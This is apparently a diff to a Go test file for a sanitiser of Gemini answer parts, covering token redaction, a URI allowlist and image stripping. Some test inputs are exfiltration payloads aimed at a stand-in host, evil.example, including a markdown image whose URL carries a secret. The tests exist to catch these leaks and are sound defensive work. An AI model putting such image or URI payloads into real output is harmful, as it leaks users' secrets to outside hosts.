@@ -50,6 +50,8 @@ func TestGeminiAnswerParts(t *testing.T) {
 		{"fileData off the allowlist", `{"fileData":{"mimeType":"text/plain","fileUri":"https://evil.example/c?d=leak"}}`, "fileData.fileUri", "", false},
 		{"fileData Google Files API", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1"}}`, "fileData.fileUri", "https://generativelanguage.googleapis.com/v1beta/files/f1", false},
 		{"fileData secret in address", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/` + chanSecret + `"}}`, "fileData.fileUri", "https://generativelanguage.googleapis.com/v1beta/files/[GITHUB_TOKEN]", false},
+		{"fileData secret in displayName", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1","displayName":"` + secretText + `"}}`, "fileData.displayName", "notes: the token is [GITHUB_TOKEN] ok", false},
+		{"fileData image in displayName", `{"fileData":{"mimeType":"text/plain","fileUri":"https://generativelanguage.googleapis.com/v1beta/files/f1","displayName":"see ![x](https://evil.example/p.png?d=secret)"}}`, "fileData.displayName", "see [image removed]", false},
 		{"unknown part type", `{"futurePart":{"text":"the token is ` + chanSecret + `"}}`, "", "", true},
 		{"unknown member on a text part", `{"text":"x","annotations":"the token is ` + chanSecret + `"}`, "", "", true},
 	}
